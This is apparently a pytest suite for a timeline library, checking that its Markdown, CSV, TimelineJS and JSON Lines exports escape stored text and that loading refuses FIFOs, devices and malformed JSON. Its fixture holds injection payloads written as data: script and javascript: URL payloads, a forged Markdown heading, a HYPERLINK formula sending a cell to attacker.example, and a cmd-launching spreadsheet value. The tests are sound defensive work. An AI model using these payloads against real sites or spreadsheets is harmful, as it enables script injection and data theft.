"""Safe exports: stored text is shown, never run, evaluated or taken for structure;
and hostile files beyond the corpus (FIFOs, devices, huge or deep JSON Lines)."""

from __future__ import annotations

import csv
import io
import json
import os
import re
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import timeline as tl
from tests.cli.conftest import run
from timeline.output.escape import csv_cell, md_text, safe_url

DAY = datetime(2025, 12, 8, tzinfo=UTC)
SCRIPT = "<svg onload=\"document.title='PWNED'\"><script>alert(1)</script>"
FORGED = "Harmless.\n\n## 2030-01-01\n\n- **Retraction** (A): The whole story was retracted."


def _hostile_store(path: Path) -> tl.Timeline:
    store = tl.Timeline.open(path)
    store.register_actor("acme", name=f"Acme {SCRIPT}", aliases=["[Acme](javascript:x)"])
    store.append(
        [
            tl.Announcement(
                id="a-1",
                occurred_at=DAY,
                actor="acme",
                topic="chips",
                position="supports",
                summary=SCRIPT + " " + FORGED,
                quote="`code` *bold* _em_ ~~gone~~ [link](javascript:alert(1)) \\ # |",
                attribution='=HYPERLINK("http://attacker.example/"&A1,"Click")',
                source=tl.Source(
                    publisher="+cmd|' /C calc'!A0",
                    headline="-2+3 <b>bold</b>",
                    url="javascript:alert(document.cookie)",
                ),
            ),
            tl.Report(
                id="r-`1`",
                occurred_at=DAY,
                summary="@SUM(1+1)",
                source=tl.Source(publisher="Wire", url="data:text/html,<script>x</script>"),
            ),
            tl.Report(
                id="r-2",
                occurred_at=datetime(999, 6, 1, tzinfo=UTC),
                precision="day",
                summary="\tTabbed\rreturn",
                source=tl.Source(publisher="Good", url="https://example.com/a?b=c&d=e"),
            ),
        ],
        story="hostile",
    )
    return store


@pytest.fixture
def hostile(tmp_path: Path) -> tl.Timeline:
    with _hostile_store(tmp_path / "h.db") as store:
        yield store


def _export(store: tl.Timeline, fmt: str) -> str:
    out = io.StringIO()
    store.export(fmt, out)
    return out.getvalue()


# --- Markdown ------------------------------------------------------------------------


def test_markdown_carries_no_html_from_the_story(hostile: tl.Timeline) -> None:
    text = _export(hostile, "markdown")
    # every "<" left is an autolink the export made for an http(s) URL
    assert [m.group(0) for m in re.finditer(r"<[^ ]{0,8}", text)] == ["<https://"]
    assert "&lt;svg onload" in text
    assert "&lt;script&gt;" in text


def test_markdown_links_only_http_urls(hostile: tl.Timeline) -> None:
    text = _export(hostile, "markdown")
    assert "<https://example.com/a?b=c&d=e>" in text
    assert "<javascript:" not in text
    assert "<data:" not in text
    assert re.search(r"(?<!\\)\]\(", text) is None  # no "](" that makes a link
    assert "\\[link\\]" in text


def test_markdown_newlines_in_text_cannot_forge_a_heading_or_an_entry(
    hostile: tl.Timeline,
) -> None:
    lines = _export(hostile, "markdown").splitlines()
    assert not any(line.startswith("## 2030") for line in lines)
    assert not any("**Retraction**" in line for line in lines)
    entries = [line for line in lines if line.startswith("- **")]
    forged = [line for line in entries if "Harmless." in line]
    assert len(forged) == 1
    assert "\\#\\# 2030-01-01" in forged[0]


def test_markdown_escapes_emphasis_code_and_strikethrough(hostile: tl.Timeline) -> None:
    text = _export(hostile, "markdown")
    assert "\\`code\\` \\*bold\\* \\_em\\_ &#126;&#126;gone&#126;&#126;" in text
    assert "``r-`1```" not in text
    assert "`` r-`1` ``" in text


def test_markdown_year_labels_below_1000_are_zero_padded(hostile: tl.Timeline) -> None:
    assert "\n## 1 Jun 0999\n" in _export(hostile, "markdown")


@given(st.text(max_size=60))
def test_markdown_text_is_one_line_with_no_tag_or_link_syntax(text: str) -> None:
    out = md_text(text)
    assert "\n" not in out
    assert "\r" not in out
    assert "\u2028" not in out
    assert "<" not in out
    assert ">" not in out
    assert re.search(r"(?<!\\)[\[\]`*_]", out) is None


# --- CSV -----------------------------------------------------------------------------


def test_csv_cells_starting_with_a_formula_character_are_neutralised(
    hostile: tl.Timeline,
) -> None:
    rows = list(csv.DictReader(io.StringIO(_export(hostile, "csv"))))
    by_id = {row["id"]: row for row in rows}
    assert by_id["a-1"]["attribution"].startswith("'=HYPERLINK(")
    assert by_id["a-1"]["source_publisher"] == "'+cmd|' /C calc'!A0"
    assert by_id["a-1"]["source_headline"] == "'-2+3 <b>bold</b>"
    assert by_id["r-`1`"]["summary"] == "'@SUM(1+1)"
    assert by_id["r-2"]["summary"] == "'\tTabbed\rreturn"
    for row in rows:
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@x", "\tx", "\rx"])
def test_csv_cell_prefixes_each_formula_start_with_a_quote(text: str) -> None:
    assert csv_cell(text) == "'" + text


# --- TimelineJS ----------------------------------------------------------------------


def test_timelinejs_escapes_every_text_field_and_drops_unsafe_urls(
    hostile: tl.Timeline,
) -> None:
    doc = json.loads(_export(hostile, "timelinejs"))
    a1 = next(e for e in doc["events"] if e["unique_id"] == "a-1")
    assert "<" not in a1["group"]
    assert "&lt;svg" in a1["group"]
    assert "media" not in a1  # a javascript: URL is no media
    r2 = next(e for e in doc["events"] if e["unique_id"] == "r-2")
    assert r2["media"]["url"] == "https://example.com/a?b=c&d=e"
    for slide in doc["events"]:
        for value in [slide["group"], *slide.get("media", {}).values()]:
            assert "<svg" not in value
            assert "<script" not in value


@pytest.mark.parametrize(
    ("url", "safe"),
    [
        ("https://example.com/x", True),
        ("HTTP://example.com", True),
        ("javascript:alert(1)", False),
        (" javascript:alert(1)", False),
        ("data:text/html,x", False),
        ("https://exa mple.com", False),
        ("https:example.com", False),
        ("https://example.com/<script>", False),
    ],
)
def test_only_plain_http_urls_are_linked(url: str, safe: bool) -> None:
    assert (safe_url(url) is not None) is safe


# --- JSON Lines ------------------------------------------------------------------------


def test_jsonl_writes_line_separators_escaped_and_loads_them_back(tmp_path: Path) -> None:
    text = "a\u2028b\u2029c\x85d\re\x0bf\x0cg"
    with tl.Timeline.open(tmp_path / "a.db") as store:
        store.append([tl.Report(id="sep", occurred_at=DAY, summary=text)], story="s")
        store.export("jsonl", tmp_path / "out.jsonl")
    raw = (tmp_path / "out.jsonl").read_text("utf-8")
    assert "\\u2028" in raw
    assert "\u2028" not in raw
    assert "\x85" not in raw
    assert raw.count("\n") == 1
    with tl.Timeline.open(tmp_path / "b.db") as again:
        again.import_jsonl(tmp_path / "out.jsonl")
        found = again.get("sep")
        assert found is not None
        assert found.event.summary == text


# any code point but lone surrogates (not text) and NUL: both refused at append
TEXT = st.text(st.characters(blacklist_categories=["Cs"], blacklist_characters="\x00"), max_size=40)


@settings(
    max_examples=40,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(summary=TEXT, quote=TEXT, attribution=TEXT, publisher=TEXT, headline=TEXT)
def test_random_text_of_any_code_point_round_trips_through_jsonl(
    tmp_path: Path, summary: str, quote: str, attribution: str, publisher: str, headline: str
) -> None:
    event = tl.Report(
        id="x",
        occurred_at=DAY,
        summary=summary,
        quote=quote if quote.strip() else None,
        attribution=attribution,
        source=tl.Source(
            publisher=publisher if publisher.strip() else "p",
            headline=headline if headline.strip() else None,
        ),
    )
    source, target = tmp_path / "rt-a.db", tmp_path / "rt-b.db"
    for path in (source, target, tmp_path / "rt.jsonl"):
        path.unlink(missing_ok=True)
        Path(f"{path}-wal").unlink(missing_ok=True)
        Path(f"{path}-shm").unlink(missing_ok=True)
    with tl.Timeline.open(source) as store:
        store.append([event], story="s")
        store.export("jsonl", tmp_path / "rt.jsonl")
        stored = store.get("x")
    with tl.Timeline.open(target) as again:
        again.import_jsonl(tmp_path / "rt.jsonl")
        back = again.get("x")
    assert stored is not None
    assert back is not None
    assert back.event == stored.event


# --- hostile files beyond the corpus ----------------------------------------------------


@pytest.mark.parametrize("suffix", [".json", ".jsonl"])
def test_a_fifo_is_refused_before_reading(tmp_path: Path, suffix: str) -> None:
    fifo = tmp_path / f"pipe{suffix}"
    os.mkfifo(fifo)
    result = run("load", tmp_path / "s.db", fifo)  # would block forever if it were read
    assert result.exit_code == 1
    assert result.stderr.strip() == (
        f"Error: {fifo}: cannot read file: it is a FIFO (named pipe), not a regular file"
    )


@pytest.mark.parametrize("device", ["/dev/zero", "/dev/urandom"])
def test_a_device_is_refused_before_reading(tmp_path: Path, device: str) -> None:
    with tl.Timeline.open(tmp_path / "s.db") as store:
        with pytest.raises(tl.FixtureError, match="it is a device, not a regular file"):
            store.load(device)
        assert store.store.head() == 0


@pytest.mark.parametrize(
    ("name", "message"),
    [
        ("duplicate-key.jsonl", "key 'id' appears twice in one JSON object"),
        ("huge-integer.jsonl", "a number with more than 4300 digits"),
        ("deep-nesting.jsonl", "JSON nested too deeply"),
    ],
)
def test_hostile_json_lines_raise_a_fixture_error_naming_the_line(
    tmp_path: Path, name: str, message: str
) -> None:
    from tests.conftest import INVALID

    with tl.Timeline.open(tmp_path / "s.db") as store:
        with pytest.raises(tl.FixtureError, match=re.escape(message) + r".*\(line 1\)"):
            store.import_jsonl(INVALID / name)
        assert store.store.head() == 0


def test_a_json_lines_file_splits_records_only_at_newlines(tmp_path: Path) -> None:
    line = json.dumps(
        {"type": "report", "story": "s", "id": "x", "occurred_at": "2025-12-01T00:00:00Z",
         "summary": "one\u2028two"},
        ensure_ascii=False,
    )  # fmt: skip
    path = tmp_path / "raw.jsonl"
    path.write_text(line + "\n", "utf-8")  # the separator written raw, as other tools do
    with tl.Timeline.open(tmp_path / "s.db") as store:
        store.import_jsonl(path)
        found = store.get("x")
        assert found is not None
        assert found.event.summary == "one\u2028two"


@pytest.mark.parametrize(
    "args",
    [
        ["search", "{db}", "\udcff"],
        ["state", "{db}", "--story", "\udcff"],
        ["export", "{db}", "--format", "csv", "-o", "-", "--story", "\udcff"],
    ],
)
def test_cli_arguments_that_are_not_utf8_get_one_line(tmp_path: Path, args: list[str]) -> None:
    db = tmp_path / "s.db"
    tl.Timeline.open(db).close()
    result = run(*[a.format(db=db) for a in args])
    assert result.exit_code == 1
    assert result.stderr.count("\n") == 1
    assert "is not valid UTF-8 text" in result.stderr


def test_cli_search_limit_beyond_sqlite_integers_gets_one_line(tmp_path: Path) -> None:
    db = tmp_path / "s.db"
    tl.Timeline.open(db).close()
    result = run("search", db, "chip", "--limit", str(2**63))
    assert result.exit_code == 1
    assert result.stderr.strip() == (
        f"Error: limit: must be at most {2**63 - 1} (SQLite's largest integer), got {2**63}"
    )
